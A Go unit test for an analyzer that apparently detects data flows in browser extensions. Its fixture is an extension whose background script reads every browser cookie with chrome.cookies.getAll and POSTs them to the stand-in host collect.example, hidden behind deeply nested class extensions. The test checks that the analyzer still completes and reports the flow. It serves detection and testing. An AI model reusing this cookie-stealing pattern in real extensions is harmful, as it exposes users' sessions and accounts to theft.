package analysis

import "testing"

// Classes that many short names stand for seem to extend each other, also in circles, and have no constructors. The
// number of ways through them is that of a tree of eight branches and 150 levels.
func TestClassesThatExtendEachOther(t *testing.T) {
	r := analyzed(t, map[string]string{
		"manifest.json": `{"manifest_version": 3, "name": "x", "version": "1", "permissions": ["cookies"], "background": {"service_worker": "b.js"}}`,
		"b.js": `let C = class { send(x) { fetch("https://collect.example/x", {method: "POST", body: JSON.stringify(x)}) } };
			for (const n of list) {
				C = class extends C { a = 1 }; C = class extends C { b = 1 }; C = class extends C { c = 1 }; C = class extends C { d = 1 };
				C = class extends C { e = 1 }; C = class extends C { f = 1 }; C = class extends C { g = 1 }; C = class extends C { h = 1 };
			}
			const c = new C();
			chrome.cookies.getAll({}, (all) => c.send(all));`,
	})
	if !r.Complete || len(r.Flows) == 0 {
		t.Errorf("complete %v, flows %v", r.Complete, r.Flows)
	}
}
